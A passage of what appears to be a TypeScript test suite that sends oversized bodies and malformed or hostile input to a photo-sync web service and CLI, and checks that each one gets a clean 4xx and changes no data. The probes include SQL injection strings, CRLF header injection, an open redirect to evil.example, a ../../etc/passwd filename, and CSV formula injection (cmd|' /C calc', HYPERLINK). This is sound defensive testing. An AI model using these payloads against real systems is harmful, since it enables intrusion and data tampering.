    test('over-limit bodies get their 413 with a message, not a reset connection (Graph 4 MB + 1, SetMyProfilePicture 5,000,001, Mail form 4 MB + 1)', async () => {
      const world = w!;
      const failures: string[] = [];
      const before = (await photoState(world, ADA)) as PhotoState;
      const junk = (size: number) => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(size - 3)]);
      const attempt = async (
        what: string,
        url: string,
        init: RequestInit,
        check: (response: Response, body: string) => string | undefined,
      ) => {
        try {
          const response = await fetch(`${base}${url}`, init);
          const body = await response.text();
          if (response.status !== 413) failures.push(`${what}: ${response.status}, expected 413: ${body.slice(0, 200)}`);
          const why = check(response, body);
          if (why) failures.push(`${what}: ${why}`);
        } catch (error) {
          failures.push(
            `${what}: the connection failed instead of a 413 arriving (${(error as Error).message}; ${String((error as { cause?: unknown }).cause)})`,
          );
        }
      };
      const jsonMessage = (pattern: RegExp) => (_r: Response, body: string) => {
        try {
          const message = JSON.parse(body).error?.message as string | undefined;
          return pattern.test(message ?? '') ? unclear(message) : `message "${message}" does not match ${pattern}`;
        } catch {
          return `not Graph's error body: ${body.slice(0, 200)}`;
        }
      };
      await attempt(
        'Graph PATCH 4 MB + 1',
        `/v1.0/users/${ADA}/photo/$value`,
        {
          method: 'PATCH',
          headers: { ...bearer(world.adminToken), 'content-type': 'application/json' },
          body: new Uint8Array(junk(4 * 1024 * 1024 + 1)),
        },
        jsonMessage(/4 MB/),
      );
      await attempt(
        'SetMyProfilePicture 5,000,001 bytes',
        SP_SET_PICTURE,
        {
          method: 'POST',
          headers: { cookie: world.adaCookie, 'x-requestdigest': 'digest', 'content-type': 'application/json;charset=utf-8' },
          body: new Uint8Array(junk(5_000_001)),
        },
        jsonMessage(/5,000,000 bytes/),
      );
      const page = await world.t.app.inject({ method: 'GET', url: '/mail/photo', headers: { cookie: world.adaCookie } });
      const form = multipartBody([
        { name: '_csrf', value: csrfIn(page.body) },
        { name: 'photo', filename: 'big.jpg', type: 'image/jpeg', bytes: junk(4 * 1024 * 1024 + 1) },
      ]);
      await attempt(
        'Mail form 4 MB + 1',
        '/mail/photo',
        {
          method: 'POST',
          headers: { cookie: world.adaCookie, 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, accept: 'text/html' },
          body: new Uint8Array(form),
        },
        (_r, body) => {
          const alert = /role="alert"[^>]*>([\s\S]*?)<\/p>/.exec(body)?.[1];
          return alert ? unclear(decodeEntities(alert)) : `no role="alert" message: ${body.slice(0, 200)}`;
        },
      );
      const damage = sameState(before, await photoState(world, ADA));
      if (damage) failures.push(`after the over-limit bodies: ${damage}`);
      report(`${kind} over-limit over a socket`, failures);
      assert.deepEqual(failures, []);
    });
  });

  describe(`hostile query strings, headers and form fields on ${kind}`, { skip }, () => {
    let w: World | undefined;
    let snapshot: string;

    before(async () => {
      w = await startWorld(kind, await makePhoto('jpeg', 700, 700, { color: '#445566', marker: '#ccbb22' }));
      // Sites holds a copy too, so userphoto.aspx serves a real photo (and the snapshot covers it).
      await w.t.services.sync.syncProfilePhoto(w.ada, 'admin');
      snapshot = await snapshotPhotoTables(w.t);
    });
    after(() => stopWorld(w));

    interface Probe {
      name: string;
      url: string;
      method?: 'GET' | 'POST';
      headers?: Record<string, string>;
      payload?: string | Buffer;
      /** Status codes that are right here (default: any 4xx). */
      status?: number[];
      /** The answer's form: Graph's error body, a page with an alert, or image bytes. */
      shape?: 'graph' | 'page' | 'image' | 'none';
      message?: RegExp;
      /** A check of the body beyond the shape. */
      body?: (response: LightMyRequestResponse) => string | undefined;
    }

    const run = async (probes: Probe[], title: string) => {
      const world = w!;
      const failures: string[] = [];
      for (const probe of probes) {
        const fail = (what: string) =>
          failures.push(`${probe.name} (${probe.method ?? 'GET'} ${probe.url.slice(0, 140)}${probe.url.length > 140 ? '…' : ''}): ${what}`);
        let response: LightMyRequestResponse;
        try {
          response = await world.t.app.inject({
            method: probe.method ?? 'GET',
            url: probe.url,
            headers: probe.headers ?? {},
            ...(probe.payload !== undefined && { payload: probe.payload }),
          });
        } catch (error) {
          fail(`the request threw: ${(error as Error).message}`);
          continue;
        }
        const status = response.statusCode;
        if (status >= 500) fail(`${status} (server error): ${response.body.slice(0, 300)}`);
        else if (probe.status ? !probe.status.includes(status) : !(status >= 400 && status < 500))
          fail(`status ${status}, expected ${probe.status?.join(' or ') ?? 'a 4xx'}: ${response.body.slice(0, 200)}`);
        const shape = probe.shape ?? 'graph';
        if (status >= 400 && shape === 'graph') {
          const read = graphError(response);
          if (read.problem) fail(read.problem);
          else {
            const why = unclear(read.message);
            if (why) fail(`unclear message: ${why}`);
            if (probe.message && !probe.message.test(read.message ?? '')) fail(`message "${read.message}" does not match ${probe.message}`);
          }
        } else if (status >= 400 && shape === 'page') {
          const read = pageAlert(response);
          if (read.problem) fail(read.problem);
          else {
            const why = unclear(read.message);
            if (why) fail(`unclear message: ${why}`);
            if (probe.message && !probe.message.test(read.message ?? '')) fail(`message "${read.message}" does not match ${probe.message}`);
          }
        } else if (status === 200 && shape === 'image') {
          const meta = await sharp(response.rawPayload)
            .metadata()
            .catch(() => undefined);
          if (meta?.format !== 'jpeg') fail(`a 200 whose body is not a JPEG (content-type ${response.headers['content-type']})`);
          if (!response.headers.etag) fail('a 200 image without an ETag');
        } else if (status === 304 && response.rawPayload.length > 0) {
          fail('a 304 with a body');
        }
        const extra = probe.body?.(response);
        if (extra) fail(extra);
      }
      const now = await snapshotPhotoTables(world.t);
      if (now !== snapshot) failures.push(`${title}: the people or photos changed: ${snapshotDiff(snapshot, now)}`);
      if ((await world.t.app.inject({ method: 'GET', url: '/healthz' })).statusCode !== 200)
        failures.push(`${title}: /healthz is down afterwards`);
      report(`${kind} ${title}`, failures);
      assert.deepEqual(failures, []);
    };

    const photoUrl = (query: string) => `/_layouts/15/userphoto.aspx?${query}`;
    /** userphoto.aspx needs a signed-in viewer; the admin's token reads without triggering a sync. */
    const viewer = () => bearer(w!.adminToken);
    const propertiesFor = (rest: string) => `/_api/SP.UserProfiles.PeopleManager/GetPropertiesFor${rest}`;
    const session = () => ({ cookie: w!.adaCookie });
    const asAda = () => bearer(w!.adaToken);

    test('userphoto.aspx: size= and accountname= garbage is a clear 4xx', async () => {
      await run(
        [
          { name: 'size=X', url: photoUrl(`size=X&accountname=${ADA}`), headers: viewer(), status: [400], message: /S, M or L/ },
          { name: 'size= (empty)', url: photoUrl(`size=&accountname=${ADA}`), headers: viewer(), status: [400] },
          { name: "size='S'×10,000", url: photoUrl(`size=${'S'.repeat(10_000)}&accountname=${ADA}`), headers: viewer(), status: [400] },
          { name: 'size=S&size=L', url: photoUrl(`size=S&size=L&accountname=${ADA}`), headers: viewer(), status: [400] },
          { name: 'size=%00', url: photoUrl(`size=%00&accountname=${ADA}`), headers: viewer(), status: [400] },
          {
            name: 'size=%E0%A4%A (bad percent-encoding)',
            url: photoUrl(`size=%E0%A4%A&accountname=${ADA}`),
            headers: viewer(),
            status: [400],
          },
          {
            name: 'size[]=S (bracket syntax)',
            url: photoUrl(`size[]=S&accountname=${ADA}`),
            headers: viewer(),
            status: [200],
            shape: 'image',
          },
          { name: 'accountname missing', url: photoUrl('size=M'), headers: viewer(), status: [400] },
          { name: 'accountname empty', url: photoUrl('size=M&accountname='), headers: viewer(), status: [400] },
          {
            name: 'accountname 10,000 characters',
            url: photoUrl(`size=M&accountname=${'a'.repeat(10_000)}`),
            headers: viewer(),
            status: [400],
          },
          {
            name: "accountname '; drop table people;--",
            url: photoUrl(`size=M&accountname=${encodeURIComponent("'; drop table people;--")}`),
            headers: viewer(),
            status: [404],
          },
          {
            name: "accountname x' OR '1'='1",
            url: photoUrl(`size=M&accountname=${encodeURIComponent("x' OR '1'='1")}`),
            headers: viewer(),
            status: [404],
          },
          { name: 'accountname % (LIKE wildcard)', url: photoUrl('size=M&accountname=%25'), headers: viewer(), status: [404] },
          {
            name: 'accountname _da@contoso.example (LIKE wildcard)',
            url: photoUrl('size=M&accountname=_da@contoso.example'),
            headers: viewer(),
            status: [404],
          },
          {
            name: 'accountname unicode (ädä@cöntoso.example)',
            url: photoUrl(`size=M&accountname=${encodeURIComponent('ädä@cöntoso.example')}`),
            headers: viewer(),
            status: [404],
          },
          {
            name: 'accountname emoji and RTL override',
            url: photoUrl(`size=M&accountname=${encodeURIComponent('\u{1F600}\u202Eada@contoso.example')}`),
            headers: viewer(),
            status: [404],
          },
          {
            name: 'accountname with a lone surrogate (%ED%A0%80)',
            url: photoUrl('size=M&accountname=%ED%A0%80'),
            headers: viewer(),
            status: [404],
          },
          {
            name: 'accountname percent-garbage (%E0%A4%A)',
            url: photoUrl('size=M&accountname=%E0%A4%A'),
            headers: viewer(),
            status: [404],
          },
          { name: 'accountname percent-garbage (%%%)', url: photoUrl('size=M&accountname=%%%'), headers: viewer(), status: [404] },
          { name: 'accountname with a NUL byte (a%00b)', url: photoUrl('size=M&accountname=a%00b'), headers: viewer(), status: [404] },
          { name: 'accountname twice', url: photoUrl(`size=M&accountname=${ADA}&accountname=${GRACE}`), headers: viewer(), status: [400] },
          {
            name: 'accountname claims prefix only',
            url: photoUrl(`size=M&accountname=${encodeURIComponent('i:0#.f|membership|')}`),
            headers: viewer(),
            status: [404],
          },
          { name: 'no viewer at all', url: photoUrl(`size=M&accountname=${ADA}`), status: [401] },
          {
            name: 'the right person, for contrast',
            url: photoUrl(`size=L&accountname=${ADA}`),
            headers: viewer(),
            status: [200],
            shape: 'image',
          },
        ],
        'userphoto.aspx',
      );
    });

    test('GetPropertiesFor: the @v parameter unbalanced, missing, huge, doubled or binary is a clear 4xx', async () => {
      const v = (value: string) => propertiesFor(`(accountName=@v)?@v=${value}`);
      await run(
        [
          { name: '@v unbalanced quote (opening only)', url: v(`'i:0%23.f|membership|${ADA}`), headers: session(), status: [404] },
          { name: '@v unbalanced quote (closing only)', url: v(`i:0%23.f|membership|${ADA}'`), headers: session(), status: [404] },
          { name: "@v = ''''", url: v("''''"), headers: session(), status: [400, 404] },
          { name: "@v = '''", url: v("'''"), headers: session(), status: [400, 404] },
          { name: "@v = '' (empty quoted)", url: v("''"), headers: session(), status: [400] },
          { name: '@v = (empty)', url: v(''), headers: session(), status: [400] },
          { name: '@v missing', url: propertiesFor('(accountName=@v)'), headers: session(), status: [400], message: /Name the person/ },
          { name: '@v 100,000 characters', url: v(`'${'a'.repeat(100_000)}'`), headers: session(), status: [400] },
          { name: '@v given twice', url: `${v(`'${ADA}'`)}&@v='${GRACE}'`, headers: session(), status: [400] },
          { name: '@v with a NUL byte', url: v("'a%00b'"), headers: session(), status: [404] },
          { name: '@v percent-garbage', url: v('%E0%A4%A'), headers: session(), status: [404] },
          {
            name: "@v SQL ('; drop table people;--)",
            url: v(encodeURIComponent("''; drop table people;--'")),
            headers: session(),
            status: [404],
          },
          { name: 'alias that is never given (@w)', url: propertiesFor(`(accountName=@w)?@v='${ADA}'`), headers: session(), status: [400] },
          {
            name: 'alias 30 characters long',
            url: propertiesFor(`(accountName=@${'v'.repeat(30)})?@${'v'.repeat(30)}='${ADA}'`),
            headers: session(),
            status: [400, 404],
          },
          { name: 'inline accountName with a NUL byte', url: propertiesFor("(accountName='%00')"), headers: session(), status: [404] },
          {
            name: 'inline accountName 500 characters',
            url: propertiesFor(`(accountName='${'a'.repeat(500)}')`),
            headers: session(),
            status: [400, 404],
          },
          {
            name: 'bad percent-encoding in the path',
            url: propertiesFor("(accountName=@v)%E0%A4%A?@v='x'"),
            headers: session(),
            status: [400],
          },
          {
            name: 'unbalanced brackets in the path',
            url: propertiesFor(`((accountName=@v?@v='${ADA}'`),
            headers: session(),
            status: [400, 404],
          },
          { name: 'no session, for contrast', url: v(`'${ADA}'`), status: [401] },
          {
            name: 'the right person, for contrast',
            url: v(`'i:0%23.f|membership|${ADA}'`),
            headers: session(),
            status: [200],
            shape: 'none',
          },
        ],
        'GetPropertiesFor',
      );
    });

    test('Graph: bad /photos/{size}, bad user ids, If-None-Match and Accept garbage', async () => {
      const etag = String((await w!.t.app.inject({ method: 'GET', url: '/v1.0/me/photo/$value', headers: asAda() })).headers.etag);
      const value = (headers: Record<string, string>, status: number[], name: string): Probe => ({
        name,
        url: '/v1.0/me/photo/$value',
        headers: { ...asAda(), ...headers },
        status,
        shape: 'image',
      });
      await run(
        [
          ...[
            '0x0',
            '48x49',
            '-1',
            '-48x-48',
            '99999999x99999999',
            '4294967344x4294967344',
            '1e2x1e2',
            '48x48x48',
            'S',
            '%00',
            '%20',
            '%2048x48',
            'x'.repeat(40),
            '%E2%80%AE48x48',
          ].map((size): Probe => ({
            name: `/photos/${size.slice(0, 20)}`,
            url: `/v1.0/me/photos/${size}`,
            headers: asAda(),
            status: [400, 404],
          })),
          {
            name: '/photos/0048x0048 (leading zeros: the same size, or refused)',
            url: '/v1.0/me/photos/0048x0048',
            headers: asAda(),
            status: [200, 400, 404],
            shape: 'none',
          },
          { name: '/photos/0x0/$value', url: '/v1.0/me/photos/0x0/$value', headers: asAda(), status: [400] },
          { name: '/photos/48x49/$value', url: '/v1.0/me/photos/48x49/$value', headers: asAda(), status: [400] },
          { name: 'users/{300 characters}', url: `/v1.0/users/${'a'.repeat(300)}/photo`, headers: asAda(), status: [400, 404, 414] },
          { name: 'users/{NUL}', url: '/v1.0/users/a%00b/photo', headers: asAda(), status: [404] },
          { name: 'users/{bad percent-encoding}', url: '/v1.0/users/%E0%A4%A/photo', headers: asAda(), status: [400, 404] },
          {
            name: "users/{'; drop table people;--}",
            url: `/v1.0/users/${encodeURIComponent("'; drop table people;--")}/photo`,
            headers: asAda(),
            status: [404],
          },
          {
            name: 'users/{a UUID that is nobody}',
            url: '/v1.0/users/00000000-0000-0000-0000-000000000000/photo',
            headers: asAda(),
            status: [404],
          },
          value({ 'if-none-match': 'x'.repeat(10_000) }, [200], 'If-None-Match 10,000 characters'),
          value({ 'if-none-match': '*' }, [304], 'If-None-Match *'),
          value({ 'if-none-match': `W/${etag}` }, [304], 'If-None-Match weak ETag'),
          value({ 'if-none-match': etag.replace(/"/g, '') }, [200, 304], 'If-None-Match unquoted ETag'),
          value({ 'if-none-match': '"unterminated' }, [200], 'If-None-Match unterminated quote'),
          value({ 'if-none-match': ',,,,,' }, [200], 'If-None-Match commas only'),
          value(
            {
              'if-none-match': Array.from({ length: 200 }, (_, i) => `"${i}"`)
                .concat(etag)
                .join(', '),
            },
            [304],
            'If-None-Match 200 values, the right one last',
          ),
          value(
            {
              'if-none-match': Array.from({ length: 2000 }, (_, i) => `"${i}"`)
                .concat(etag)
                .join(','),
            },
            [200, 304],
            'If-None-Match 2,000 values (past 4 KB)',
          ),
          value({ 'if-none-match': `${etag}\u00ff` }, [200], 'If-None-Match with a latin-1 byte'),
          value({ accept: 'x'.repeat(10_000) }, [200], 'Accept 10,000 characters'),
          value({ accept: 'text/html' }, [200], 'Accept text/html on an image'),
          value({ accept: '*/*;q=abc, image/*;q=-1' }, [200], 'Accept with bad q values'),
          value({ accept: 'application/json;odata=verbose' }, [200], 'Accept odata=verbose on an image'),
          {
            name: 'Accept text/html on a Graph error is still JSON',
            url: '/v1.0/me/photos/0x0',
            headers: { ...asAda(), accept: 'text/html,application/xhtml+xml' },
            status: [400],
          },
          {
            name: 'Accept garbage on a Graph error',
            url: '/v1.0/me/photos/0x0',
            headers: { ...asAda(), accept: '\u00ff\u00fe;;;===' },
            status: [400],
          },
          {
            name: 'If-None-Match * on userphoto.aspx',
            url: photoUrl(`size=L&accountname=${ADA}`),
            headers: { ...viewer(), 'if-none-match': '*' },
            status: [304],
            shape: 'none',
          },
          {
            name: 'If-None-Match 10,000 characters on userphoto.aspx',
            url: photoUrl(`size=L&accountname=${ADA}`),
            headers: { ...viewer(), 'if-none-match': 'y'.repeat(10_000) },
            status: [200],
            shape: 'image',
          },
          {
            name: 'SetMyProfilePicture: a session without X-RequestDigest',
            method: 'POST',
            url: SP_SET_PICTURE,
            headers: { ...session(), 'content-type': 'image/jpeg' },
            payload: Buffer.from('x'),
            status: [403],
          },
          {
            name: 'SetMyProfilePicture: X-RequestDigest 10,000 characters, junk body',
            method: 'POST',
            url: SP_SET_PICTURE,
            headers: { ...session(), 'x-requestdigest': 'd'.repeat(10_000), 'content-type': 'image/jpeg' },
            payload: Buffer.from('not an image'),
            status: [400],
          },
          { name: 'SetMyProfilePicture: GET instead of POST', url: SP_SET_PICTURE, headers: session(), status: [400, 404, 405] },
          { name: 'Authorization: Bearer (no token)', url: '/v1.0/me/photo', headers: { authorization: 'Bearer' }, status: [401] },
          {
            name: 'Authorization: Bearer 10,000 characters',
            url: '/v1.0/me/photo',
            headers: { authorization: `Bearer ${'a'.repeat(10_000)}` },
            status: [401],
          },
          { name: 'Authorization: Bearer a b', url: '/v1.0/me/photo', headers: { authorization: 'Bearer a b' }, status: [401] },
          { name: 'Authorization: Basic', url: '/v1.0/me/photo', headers: { authorization: 'Basic YWRhOnB3' }, status: [401] },
          {
            name: 'session cookie with bad percent-encoding',
            url: '/v1.0/me/photo',
            headers: { cookie: 'photosync_session=%E0%A4%A' },
            status: [401],
          },
          {
            name: 'session cookie 8,000 characters',
            url: '/v1.0/me/photo',
            headers: { cookie: `photosync_session=${'x'.repeat(8000)}` },
            status: [401],
          },
          { name: 'session cookie with a NUL byte', url: '/v1.0/me/photo', headers: { cookie: 'photosync_session=a%00b' }, status: [401] },
        ],
        'Graph query and headers',
      );
    });

    test('portal query strings and form fields: a clear 4xx page, never a 5xx, nothing damaged', async () => {
      const world = w!;
      const page = await world.t.app.inject({ method: 'GET', url: '/mail/photo', headers: session() });
      const csrf = csrfIn(page.body);
      const jpeg = await makePhoto('jpeg', 200, 200, { color: '#aa22aa' });
      const form = (
        parts: Parameters<typeof multipartBody>[0],
        contentType = `multipart/form-data; boundary=${BOUNDARY}`,
      ): Pick<Probe, 'method' | 'url' | 'headers' | 'payload'> => ({
        method: 'POST',
        url: '/mail/photo',
        headers: { ...session(), 'content-type': contentType, accept: 'text/html' },
        payload: multipartBody(parts),
      });
      const photoPart = { name: 'photo', filename: 'x.jpg', type: 'image/jpeg', bytes: jpeg };
      const signInPage = await world.t.app.inject({ method: 'GET', url: '/signin' });
      const signInCookie = String(signInPage.headers['set-cookie'] ?? '').split(';')[0]!;
      const signInCsrf = csrfIn(signInPage.body);
      const signIn = (body: string, url = '/signin'): Pick<Probe, 'method' | 'url' | 'headers' | 'payload'> => ({
        method: 'POST',
        url,
        headers: { cookie: signInCookie, 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html' },
        payload: body,
      });
      const noJunk = (response: LightMyRequestResponse) =>
        /\[native code\]|\[object Object\]|function \w*\(/.test(response.body)
          ? `the page shows junk from the query string: "${/role="status">([^<]*)/.exec(response.body)?.[1] ?? ''}"`
          : undefined;
      await run(
        [
          {
            name: 'next= with CR LF (header injection)',
            url: '/signin?next=/%0d%0aX-Injected:%201',
            headers: { ...session(), accept: 'text/html' },
            status: [303],
            shape: 'none',
            body: (r) => (r.headers['x-injected'] ? 'the header was injected' : undefined),
          },
          {
            name: 'next= with U+2028',
            url: '/signin?next=/%E2%80%A8',
            headers: { ...session(), accept: 'text/html' },
            status: [303],
            shape: 'none',
          },
          {
            name: 'next= with a latin-1 character',
            url: '/signin?next=/%C3%A9t%C3%A9',
            headers: { ...session(), accept: 'text/html' },
            status: [303],
            shape: 'none',
          },
          {
            name: 'next=//evil.example',
            url: '/signin?next=//evil.example',
            headers: { ...session(), accept: 'text/html' },
            status: [303],
            shape: 'none',
            body: (r) => (/evil/.test(String(r.headers.location)) ? `redirects to ${r.headers.location}` : undefined),
          },
          {
            name: 'next= 10,000 characters',
            url: `/signin?next=/${'a'.repeat(10_000)}`,
            headers: { ...session(), accept: 'text/html' },
            status: [303],
            shape: 'none',
          },
          {
            name: 'sign-in POST with next= CR LF',
            ...signIn(
              new URLSearchParams({ _csrf: signInCsrf, username: ADA, password: 'correct horse battery staple' }).toString(),
              '/signin?next=/%0d%0aX-Injected:%201',
            ),
            status: [303],
            shape: 'none',
          },
          {
            name: '/?done=constructor',
            url: '/?done=constructor',
            headers: { ...session(), accept: 'text/html' },
            status: [200],
            shape: 'none',
            body: noJunk,
          },
          {
            name: '/?done=__proto__',
            url: '/?done=__proto__',
            headers: { ...session(), accept: 'text/html' },
            status: [200],
            shape: 'none',
            body: noJunk,
          },
          {
            name: '/mail/photo?done=toString',
            url: '/mail/photo?done=toString',
            headers: { ...session(), accept: 'text/html' },
            status: [200],
            shape: 'none',
            body: noJunk,
          },
          {
            name: '/mail/photo?done=x&done=y',
            url: '/mail/photo?done=uploaded&done=removed',
            headers: { ...session(), accept: 'text/html' },
            status: [200, 400],
            shape: 'none',
            body: noJunk,
          },
          {
            name: 'sign-in: username with a NUL byte',
            ...signIn(
              new URLSearchParams({ _csrf: signInCsrf, username: 'a\u0000b@contoso.example', password: 'whatever it is here' }).toString(),
            ),
            status: [401],
            shape: 'page',
          },
          {
            name: 'sign-in: username given twice',
            ...signIn(`_csrf=${encodeURIComponent(signInCsrf)}&username=a&username=b&password=x`),
            status: [400, 401],
            shape: 'page',
          },
          {
            name: 'sign-in: username 60,000 characters',
            ...signIn(new URLSearchParams({ _csrf: signInCsrf, username: 'u'.repeat(60_000), password: 'x' }).toString()),
            status: [401, 400, 413],
            shape: 'page',
          },
          {
            name: 'sign-in: body over the form limit (200 KB password)',
            ...signIn(new URLSearchParams({ _csrf: signInCsrf, username: ADA, password: 'p'.repeat(200_000) }).toString()),
            status: [413, 400],
            shape: 'page',
          },
          { name: 'sign-in: no fields at all', ...signIn(''), status: [400, 403], shape: 'page' },
          {
            name: 'sign-in: _csrf given twice',
            ...signIn(`_csrf=${encodeURIComponent(signInCsrf)}&_csrf=x&username=a&password=x`),
            status: [403],
            shape: 'page',
          },
          { name: 'Mail form: no _csrf', ...form([photoPart]), status: [403], shape: 'page' },
          {
            name: 'Mail form: _csrf given twice',
            ...form([{ name: '_csrf', value: csrf }, { name: '_csrf', value: csrf }, photoPart]),
            status: [403, 400],
            shape: 'page',
          },
          {
            name: 'Mail form: _csrf 10,000 characters',
            ...form([{ name: '_csrf', value: csrf + 'x'.repeat(10_000) }, photoPart]),
            status: [403, 400, 413],
            shape: 'page',
          },
          {
            name: 'Mail form: photo sent as a text field',
            ...form([
              { name: '_csrf', value: csrf },
              { name: 'photo', value: 'not a file' },
            ]),
            status: [400],
            shape: 'page',
            message: /Choose a photo/,
          },
          {
            name: 'Mail form: the file under another name',
            ...form([
              { name: '_csrf', value: csrf },
              { ...photoPart, name: 'picture' },
            ]),
            status: [400],
            shape: 'page',
          },
          {
            name: 'Mail form: two files',
            ...form([{ name: '_csrf', value: csrf }, photoPart, photoPart]),
            status: [400, 413],
            shape: 'page',
          },
          {
            name: 'Mail form: six text fields (over the limit of five)',
            ...form([{ name: '_csrf', value: csrf }, ...['a', 'b', 'c', 'd', 'e'].map((name) => ({ name, value: '1' })), photoPart]),
            status: [400, 413],
            shape: 'page',
          },
          {
            name: 'Mail form: a field named __proto__',
            ...form([{ name: '_csrf', value: csrf }, { name: '__proto__', value: 'x' }, photoPart]),
            status: [400],
            shape: 'page',
          },
          {
            name: 'Mail form: multipart without a boundary',
            ...form([{ name: '_csrf', value: csrf }, photoPart], 'multipart/form-data'),
            status: [400],
            shape: 'page',
          },
          {
            name: 'Mail form: a boundary that never appears',
            ...form([{ name: '_csrf', value: csrf }, photoPart], 'multipart/form-data; boundary=nope'),
            status: [400, 403],
            shape: 'page',
          },
          {
            name: 'Mail form: body cut off in the middle of the file',
            method: 'POST',
            url: '/mail/photo',
            headers: { ...session(), 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, accept: 'text/html' },
            payload: multipartBody([{ name: '_csrf', value: csrf }, photoPart]).subarray(0, 600),
            status: [400],
            shape: 'page',
          },
          {
            name: 'Mail form: garbage body',
            method: 'POST',
            url: '/mail/photo',
            headers: { ...session(), 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, accept: 'text/html' },
            payload: 'garbage, not multipart',
            status: [400, 403],
            shape: 'page',
          },
          {
            name: 'Mail form: text/plain body',
            method: 'POST',
            url: '/mail/photo',
            headers: { ...session(), 'content-type': 'text/plain', accept: 'text/html' },
            payload: 'hello',
            status: [400, 403, 415],
            shape: 'page',
          },
          {
            name: 'Mail form: JSON body',
            method: 'POST',
            url: '/mail/photo',
            headers: { ...session(), 'content-type': 'application/json', accept: 'text/html' },
            payload: JSON.stringify({ _csrf: csrf, photo: 'x' }),
            status: [400, 403, 415],
            shape: 'page',
          },
          {
            name: 'Mail form: filename with a path and a NUL',
            ...form([
              { name: '_csrf', value: csrf },
              { ...photoPart, filename: '../../etc/passwd\u0000.jpg', bytes: Buffer.from('not an image at all, really') },
            ]),
            status: [400],
            shape: 'page',
          },
          {
            name: 'Mail form: no session',
            method: 'POST',
            url: '/mail/photo',
            headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, accept: 'text/html' },
            payload: multipartBody([{ name: '_csrf', value: csrf }, photoPart]),
            status: [303, 401, 403],
            shape: 'none',
          },
        ],
        'portal query strings and form fields',
      );
    });
  });

  describe(`hostile CSV files and CLI arguments on ${kind}`, { skip }, () => {
    let w: World | undefined;
    let goodPhoto: string;

    before(async () => {
      w = await startWorld(kind, await makePhoto('jpeg', 300, 300, { color: '#445566', marker: '#ccbb22' }));
      goodPhoto = path.join(w.dir, 'photo1.jpg');
      fs.writeFileSync(goodPhoto, await makePhoto('jpeg', 200, 200, { color: '#22aa22' }));
    });
    after(() => stopWorld(w));

    interface CliProbe {
      name: string;
      args: string[];
      /** Acceptable exit codes. */
      exit: number[];
      /** What stderr (or stdout for reports) must mention. */
      message?: RegExp;
      /** The database may change (a good file); then `verify` says whether the change is right. */
      changes?: boolean;
      verify?: (run: CliRun) => Promise<string | undefined>;
    }

    /** An import run records itself in the audit log even when it imports nothing; that is no damage. */
    const withoutImportRuns = (snapshot: string) =>
      snapshot
        .split('\n')
        .filter((line) => !line.includes('"action":"import.run"'))
        .join('\n');

    const file = (name: string, content: string | Buffer) => {
      const at = path.join(w!.dir, name);
      fs.writeFileSync(at, content);
      return at;
    };

    const runCli = async (probes: CliProbe[], title: string) => {
      const world = w!;
      const failures: string[] = [];
      const settings = JSON.stringify(await world.t.services.syncAdmin.getSettings(CLI_ACTOR));
      for (const probe of probes) {
        const fail = (what: string) =>
          failures.push(
            `${probe.name} (photosync ${probe.args.map((a) => (a.length > 60 ? `${a.slice(0, 60)}…` : a)).join(' ')}): ${what}`,
          );
        const before = await snapshotPhotoTables(world.t);
        let run: CliRun;
        try {
          run = await world.cli(probe.args);
        } catch (error) {
          fail(`the CLI threw instead of exiting: ${(error as Error).stack?.split('\n').slice(0, 3).join(' ')}`);
          continue;
        }
        if (!probe.exit.includes(run.code))
          fail(`exit ${run.code}, expected ${probe.exit.join(' or ')}; stderr: ${run.stderr.slice(0, 300)}`);
        if (/\n\s+at \S+ \(/.test(run.stderr + run.stdout)) fail('a stack trace was printed');
        if (run.code !== 0) {
          const message = cliMessage(run);
          const why = unclear(message, { sentence: false });
          if (why) fail(`unclear message on stderr: ${why}`);
          if (probe.message && !probe.message.test(`${run.stderr}\n${run.stdout}`))
            fail(`stderr "${run.stderr.slice(0, 300)}" does not match ${probe.message}`);
        }
        for (const line of `${run.stderr}\n${run.stdout}`.split('\n')) {
          if (line.length > 2000) {
            fail(`prints a ${line.length}-character line (the hostile value echoed back whole): "${line.slice(0, 80)}…"`);
            break;
          }
        }
        if (!probe.changes) {
          const now = await snapshotPhotoTables(world.t);
          if (withoutImportRuns(now) !== withoutImportRuns(before))
            fail(`the people or photos changed: ${snapshotDiff(withoutImportRuns(before), withoutImportRuns(now))}`);
        }
        const extra = await probe.verify?.(run);
        if (extra) fail(extra);
      }
      if (JSON.stringify(await world.t.services.syncAdmin.getSettings(CLI_ACTOR)) !== settings)
        failures.push(`${title}: the sync settings changed`);
      report(`${kind} ${title}`, failures);
      assert.deepEqual(failures, []);
    };

    test('users import: binary junk, UTF-16, unterminated quotes, huge fields, formula injection, NUL, BOM and CRLF', async () => {
      const header = 'userPrincipalName,displayName,mail,role';
      const personNamed = (upn: string) => w!.t.services.directory.findPerson(upn);
      await runCli(
        [
          { name: 'binary junk', args: ['users', 'import', file('junk.csv', new Prng(7).bytes(4096))], exit: [2], message: /header/ },
          {
            name: 'UTF-16 with a BOM',
            args: ['users', 'import', file('utf16.csv', Buffer.from(`\uFEFF${header}\r\nx@contoso.example,X,,user\r\n`, 'utf16le'))],
            exit: [2],
          },
          { name: 'an empty file', args: ['users', 'import', file('empty.csv', '')], exit: [2], message: /header/ },
          {
            name: 'an unterminated quote',
            args: ['users', 'import', file('quote.csv', `${header}\n"${ADA},Ada,,user\nb@contoso.example,B,,user\n`)],
            exit: [2],
            message: /line 2/,
          },
          {
            name: 'a 3 MB user principal name',
            args: ['users', 'import', file('huge-upn.csv', `${header}\n${'a'.repeat(3_000_000)}@contoso.example,Big,,user\n`)],
            exit: [1],
            message: /line 2/,
          },
          {
            name: 'a 3 MB display name on a bad row',
            args: ['users', 'import', file('huge-name.csv', `${header}\nnot-an-upn,${'n'.repeat(3_000_000)},,user\n`)],
            exit: [1],
            message: /line 2/,
          },
          {
            name: '10,000 columns',
            args: ['users', 'import', file('wide.csv', `${header}\n${ADA}${','.repeat(10_000)}\n`)],
            exit: [1],
            message: /line 2/,
          },
          {
            name: 'formula injection in every column',
            args: [
              'users',
              'import',
              file(
                'formula.csv',
                [
                  header,
                  `"=cmd|' /C calc'!A0",=1+1,=2+2@x,admin`,
                  `+SUM(1+1)@contoso.example,@SUM(1+1),-2+3,user`,
                  `-2+3+cmd|' /C calc'!A0,"=HYPERLINK(""http://evil.example"",""click"")",,user`,
